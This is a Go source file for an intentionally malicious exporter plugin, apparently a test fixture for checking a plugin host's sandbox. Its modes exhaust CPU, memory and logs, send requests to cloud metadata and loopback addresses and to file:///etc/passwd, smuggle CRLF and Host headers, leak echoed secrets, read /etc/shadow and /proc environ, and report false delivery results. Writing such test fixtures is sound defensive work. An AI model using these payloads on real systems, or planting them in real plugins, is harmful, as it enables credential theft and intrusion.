// Package evil is an exporter that does what it is told not to do: one source
// for every carrier. Its setting "mode" says what. See docs/plugins/security.md
// for what each mode shows.
package evil

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/fencepost/fencepost/plugins/sdk"
	"github.com/fencepost/fencepost/plugins/sdk/capability"
	"github.com/fencepost/fencepost/plugins/sdk/exporter"
)

// Version is set by the linker.
var Version = "1.0.0"

// Change is what a version differs in: "" or "horizon"; or how it fails:
// "describe", "panics", "secret". Set by the linker.
var Change = ""

// New builds the exporter.
func New(h capability.Host) exporter.Exporter { return &evil{host: h} }

type evil struct {
	host capability.Host
	conf exporter.Configuration
	mode string
	// victim is an address that was not granted.
	victim string
}

func (e *evil) Describe(context.Context) (exporter.Manifest, error) {
	m := exporter.Manifest{
		Name: "evil", Version: Version, IdentifierMaxLength: 255, IdentifierHorizon: 23 * time.Hour,
		Values: exporter.ValueDomain{MaxDecimals: -1, Negative: true, Zero: true}, MaxBatch: 10, Concurrency: 4,
		Corrections:  exporter.CorrectNegative,
		Capabilities: []capability.Name{capability.HTTPName, capability.LogName}, Hosts: []string{"api.example.com"},
		Secrets: []exporter.Secret{{Name: "api_key", Header: "Authorization", Prefix: "Bearer "}},
	}
	switch Change {
	case "horizon":
		m.IdentifierHorizon = time.Hour
	case "secret":
		m.Secrets = append(m.Secrets, exporter.Secret{Name: "another", Header: "X-Another"})
	case "describe":
		return m, sdk.Invalid("license", "paid for")
	case "panics":
		panic("a bug of this version")
	}
	return m, nil
}

func (e *evil) Configure(_ context.Context, c exporter.Configuration) error {
	var s struct{ Mode, Victim string }
	if len(c.Settings) > 0 {
		if err := json.Unmarshal(c.Settings, &s); err != nil {
			return sdk.Invalid("settings", err.Error())
		}
	}
	e.conf, e.mode, e.victim = c, s.Mode, s.Victim
	return nil
}

func (*evil) Close(context.Context) error { return nil }

// request reports an item as a provider would want it.
func (e *evil) request(it exporter.Item) capability.Request {
	body, _ := json.Marshal(map[string]string{"identifier": it.Identifier, "value": it.Value})
	return capability.Request{
		Method: "POST", URL: e.conf.BaseURL + "/usage", Headers: []capability.Header{{Name: "Content-Type", Value: "application/json"}},
		Body: body, Items: []string{it.ID}, Secrets: []string{"api_key"},
	}
}

// honest delivers.
func (e *evil) honest(ctx context.Context, d exporter.Delivery) ([]exporter.ItemOutcome, error) {
	requests := make([]capability.Request, len(d.Items))
	for i, it := range d.Items {
		requests[i] = e.request(it)
	}
	answers, err := e.host.HTTP.Send(ctx, requests)
	if err != nil {
		return nil, err
	}
	return outcomes(d, func(i int, o *exporter.ItemOutcome) {
		switch {
		case answers[i].Status/100 == 2:
			o.Kind, o.ProviderRef = exporter.Accepted, d.Items[i].Identifier
		case answers[i].Status == 0:
			o.Kind = exporter.Retry
		default:
			o.Kind, o.Code = exporter.Uncertain, fmt.Sprint(answers[i].Status)
		}
	}), nil
}

func outcomes(d exporter.Delivery, set func(i int, o *exporter.ItemOutcome)) []exporter.ItemOutcome {
	list := make([]exporter.ItemOutcome, len(d.Items))
	for i, it := range d.Items {
		list[i].ItemID = it.ID
		set(i, &list[i])
	}
	return list
}

// say answers that every item was taken, or refused.
func say(d exporter.Delivery, kind exporter.OutcomeKind) []exporter.ItemOutcome {
	return outcomes(d, func(i int, o *exporter.ItemOutcome) {
		o.Kind, o.Code, o.ProviderRef = kind, "said", d.Items[i].Identifier
	})
}

// Modes are those of every carrier.
var Modes = []string{
	"loops", "recurses", "eats", "panics", "exits", "sleeps",
	"logs", "prints", "asks-much", "asks-elsewhere", "asks-private", "asks-redirected", "smuggles",
	"answers-much", "answers-nonsense", "answers-nothing", "answers-twice", "answers-for-others", "lies-accepted", "lies-rejected",
	"tells-secrets", "looks-around",
}

// Deliver does what the mode says.
func (e *evil) Deliver(ctx context.Context, d exporter.Delivery) ([]exporter.ItemOutcome, error) {
	switch e.mode {
	case "loops":
		for n := uint64(1); n > 0; n += 2 {
		}
	case "recurses":
		return say(d, exporter.OutcomeKind(fmt.Sprint(deep(1)))), nil
	case "eats":
		for all := [][]byte{}; ; {
			b := make([]byte, 16<<20)
			for i := 0; i < len(b); i += 4096 {
				b[i] = 1
			}
			all = append(all, b)
			_ = all
		}
	case "panics":
		panic("a bug of the plugin")
	case "exits":
		os.Exit(0)
	case "sleeps":
		time.Sleep(time.Hour)
	case "logs":
		for range 100_000 {
			e.host.Log.Write(capability.LevelError, strings.Repeat("x", 8<<10))
		}
	case "prints":
		line := strings.Repeat("0123456789abcde\n", 4096)
		for range 256 {
			_, _ = os.Stderr.WriteString(line)
			_, _ = os.Stdout.WriteString(line)
		}
	default:
		return e.ask(ctx, d)
	}
	return e.honest(ctx, d)
}

//go:noinline
func deep(n uint64) uint64 {
	var frame [1 << 10]byte
	frame[n%1024] = byte(n)
	return deep(n+1) + uint64(frame[(n+1)%1024])
}

// ask abuses the http capability.
func (e *evil) ask(ctx context.Context, d exporter.Delivery) ([]exporter.ItemOutcome, error) {
	to := func(urls ...string) ([]exporter.ItemOutcome, error) {
		var requests []capability.Request
		for _, u := range urls {
			r := e.request(d.Items[0])
			r.URL = u
			requests = append(requests, r)
		}
		_, _ = e.host.HTTP.Send(ctx, requests)
		return say(d, exporter.Accepted), nil // and then it lies
	}
	switch e.mode {
	case "asks-much":
		get := capability.Request{Method: "GET", URL: e.conf.BaseURL + "/flood", Secrets: []string{"api_key"}}
		for range 10_000 {
			if _, err := e.host.HTTP.Send(ctx, []capability.Request{get, get, get, get, get, get, get, get, get, get}); err != nil {
				break
			}
		}
		return e.honest(ctx, d)
	case "asks-elsewhere":
		return to(e.victim+"/usage", "https://elsewhere.example.com/usage", "http://api.example.com/usage", "https://api.example.com.evil.example/usage")
	case "asks-private":
		return to("https://169.254.169.254/latest/meta-data", "https://[::1]:443/", "https://127.1/", "https://0x7f000001/", "https://localhost/", "file:///etc/passwd")
	case "asks-redirected":
		return to(e.conf.BaseURL + "/redirect?to=" + e.victim)
	case "smuggles":
		r := e.request(d.Items[0])
		r.Headers = append(r.Headers, capability.Header{Name: "X-Evil", Value: "a\r\nHost: elsewhere"}, capability.Header{Name: "Transfer-Encoding", Value: "chunked"},
			capability.Header{Name: "Host", Value: "elsewhere"})
		_, _ = e.host.HTTP.Send(ctx, []capability.Request{r})
		return say(d, exporter.Accepted), nil
	}
	return e.lie(ctx, d)
}

// lie answers what is not so.
func (e *evil) lie(ctx context.Context, d exporter.Delivery) ([]exporter.ItemOutcome, error) {
	switch e.mode {
	case "answers-much":
		return outcomes(d, func(_ int, o *exporter.ItemOutcome) {
			o.Kind, o.Message = exporter.Accepted, strings.Repeat("x", 2<<20)
		}), nil
	case "answers-nonsense":
		return append(say(d, "perhaps"), exporter.ItemOutcome{ItemID: "\xff\xfe", Kind: "\x00", Message: "\x1b[2J\xff"}), nil
	case "answers-nothing":
		return nil, nil
	case "answers-twice":
		return append(say(d, exporter.Accepted), say(d, exporter.Rejected)...), nil
	case "answers-for-others":
		var list []exporter.ItemOutcome
		for id := range 1_000 {
			list = append(list, exporter.ItemOutcome{ItemID: fmt.Sprint(id), Kind: exporter.Accepted, ProviderRef: "r"})
		}
		for _, it := range d.Items {
			list = slicesWithout(list, it.ID)
		}
		return list, nil
	case "lies-accepted":
		return say(d, exporter.Accepted), nil
	case "lies-rejected":
		return say(d, exporter.Rejected), nil
	case "tells-secrets":
		// The provider echoes what it got; the plugin shouts what it learns.
		r := e.request(d.Items[0])
		r.URL = e.conf.BaseURL + "/echo"
		answers, err := e.host.HTTP.Send(ctx, []capability.Request{r})
		if err != nil {
			return nil, err
		}
		seen := fmt.Sprintf("%s %v", answers[0].Body, answers[0].Headers)
		e.host.Log.Write(capability.LevelError, seen)
		_, _ = os.Stderr.WriteString(seen + "\n")
		return nil, &sdk.Error{Tag: sdk.TagInvalid, Code: "seen", Rule: seen}
	case "looks-around":
		seen := fmt.Sprintf("env=%q args=%q", os.Environ(), os.Args)
		for _, f := range []string{"/proc/self/environ", "/proc/1/environ", "/etc/shadow", "/proc/self/mem"} {
			b, err := os.ReadFile(f)
			seen += fmt.Sprintf(" %s=%.200q,%v", f, b, err)
		}
		err := os.WriteFile("/proc/self/comm", []byte("good"), 0)
		seen += fmt.Sprintf(" write=%v", err)
		e.host.Log.Write(capability.LevelError, seen)
		return say(d, exporter.Retry), nil
	}
	return e.native(ctx, d)
}

func slicesWithout(list []exporter.ItemOutcome, id string) []exporter.ItemOutcome {
	var kept []exporter.ItemOutcome
	for _, o := range list {
		if o.ItemID != id {
			kept = append(kept, o)
		}
	}
	return kept
}

// Sleep is the argument at which the program does nothing, as what it leaves
// behind does.
const Sleep = "evil-child-that-sleeps"
